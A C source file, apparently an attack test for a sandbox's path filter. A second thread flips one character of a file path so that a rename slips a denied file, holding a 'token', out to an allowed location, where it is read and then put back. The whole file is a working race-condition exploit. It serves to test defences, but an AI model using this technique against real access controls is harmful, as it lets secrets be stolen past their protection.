/* A second thread rewrites the path that is to be renamed: the denied file is carried off. */
#include "attack.h"
static volatile char path[] = "secretz/key";
static void *flip(void *unused) {
    for (;;) path[6] ^= 's' ^ 'z';
    return unused;
}
static int try_once(void) {
    char data[8] = "";
    if (rename((char *)path, "src/carried")) return 0;
    int fd = open("src/carried", O_RDONLY);
    ssize_t got = read(fd, data, 5);
    close(fd);
    int stolen = got == 5 && !memcmp(data, "token", 5);
    /* put it back, by a name that does not change */
    while (rename("src/carried", stolen ? "secretz/back" : "secretz/key")) {}
    if (stolen)
        while (syscall(SYS_renameat2, AT_FDCWD, "secretz/back", AT_FDCWD, path, 1u)) {}
    return stolen;
}
int main(int argc, char **argv) {
    pthread_t thread;
    (void)argc;
    pthread_create(&thread, 0, flip, 0);
    return race(argv, try_once);
}
